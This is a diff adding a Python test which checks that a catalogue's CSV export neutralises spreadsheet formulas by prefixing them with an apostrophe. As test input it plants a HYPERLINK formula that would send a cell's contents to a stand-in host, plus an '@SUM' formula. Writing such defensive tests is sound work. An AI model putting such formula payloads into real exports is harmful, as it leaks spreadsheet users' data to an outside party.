@@ -79,3 +79,17 @@ def test_the_page_names_every_vocabulary_the_json_file_holds(handbook):
     assert set(data["vocabulary"]) == set(VocabularyFile.fields)
     for field in VocabularyFile.fields.values():
         assert field.label in page
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(corpus_handbook):
+    method = corpus_handbook.method("exempel")
+    original = method.summary, method.short_title
+    try:
+        method.summary = '=HYPERLINK("https://annan.example/?"&A1;"Klicka")'
+        method.short_title = "@SUM(1+1)"
+        row = next(csv.DictReader(io.StringIO(catalogue_csv(corpus_handbook))))
+    finally:
+        method.summary, method.short_title = original
+    assert row["summary"] == '\'=HYPERLINK("https://annan.example/?"&A1;"Klicka")'
+    assert row["short_title"] == "'@SUM(1+1)"
+    assert row["title"] == method.title  # ordinary text is left as it is
